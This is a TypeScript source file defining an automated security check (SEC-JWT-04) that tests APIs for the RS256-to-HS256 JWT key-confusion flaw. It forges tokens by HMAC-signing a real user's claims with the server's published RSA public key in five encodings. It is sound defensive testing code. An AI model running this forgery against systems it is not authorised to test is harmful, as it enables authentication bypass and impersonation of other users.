import { createPublicKey, type JsonWebKey } from 'node:crypto';
import { defineCheck } from '../../security-check.ts';
import { AUTH_CVSS } from './auth-cvss.ts';
import { authNeeds } from './auth-needs.ts';
import { fetchJwks } from './fetch-jwks.ts';
import { forgeJwt, readJwt } from './forge-jwt.ts';
import { TokenOracle, type TokenTry } from './token-oracle.ts';
import { SIGNATURES_NOT_VERIFIED } from './jwt-stripped-signature.ts';

export const jwtKeyConfusion = defineCheck({
  id: 'SEC-JWT-04',
  title: 'RS256 to HS256 key confusion (public key used as the HMAC secret)',
  owasp: 'API2',
  cwe: [347, 327],
  cvss: AUTH_CVSS.forgeAnyIdentity,
  attackClass: 'authentication',
  provenBy: ['jwt-key-confusion'],
  consequenceOf: SIGNATURES_NOT_VERIFIED,
  description:
    'Takes a real token of userA (the control: the protected probe must accept it), fetches auth.jwksPath and takes ' +
    "the RSA key named by the token's kid. Re-signs the token's claims as HS256 (same kid) with that public key as " +
    'the HMAC secret, in the forms a verifier may hold it: SPKI PEM with and without its final newline, PKCS#1 PEM, ' +
    'SPKI DER, and the JWK JSON as published (CVE-2016-10555). Passes when the protected probe refuses all five ' +
    '(4xx, not 429); fails when any is answered 2xx.',
  applies: (p) => authNeeds(p, { probe: 'protectedProbe', jwksPath: 'auth.jwksPath' }),
  async run(ctx, { probe, jwksPath }) {
    const { token } = await ctx.login('userA');
    const real = readJwt(token);
    const jwks = await fetchJwks(ctx, jwksPath, real.header['kid']);
    if (!jwks.ok) return jwks.outcome;
    const key = jwks.keys[0] as (typeof jwks.keys)[number];
    const pub = createPublicKey({ key: key.jwk as JsonWebKey, format: 'jwk' });
    const spki = pub.export({ type: 'spki', format: 'pem' }).toString();
    const secrets: [string, string | Uint8Array][] = [
      ['SPKI PEM', spki],
      ['SPKI PEM without its final newline', spki.trimEnd()],
      ['PKCS#1 PEM', pub.export({ type: 'pkcs1', format: 'pem' }).toString()],
      ['SPKI DER', pub.export({ type: 'spki', format: 'der' })],
      ['JWK JSON as published', key.json],
    ];
    const header = { ...real.header, alg: 'HS256' };
    const tries: TokenTry[] = [];
    for (const [form, secret] of secrets)
      tries.push({
        label: `HS256 signed with the public key (${form}, kid ${String(key.jwk['kid'])})`,
        token: await forgeJwt(header, real.claims, { kind: 'hmac', key: secret }),
      });
    return new TokenOracle(ctx, probe).judgeTokens(token, tries, { extra: [jwks.evidence] });
  },
});
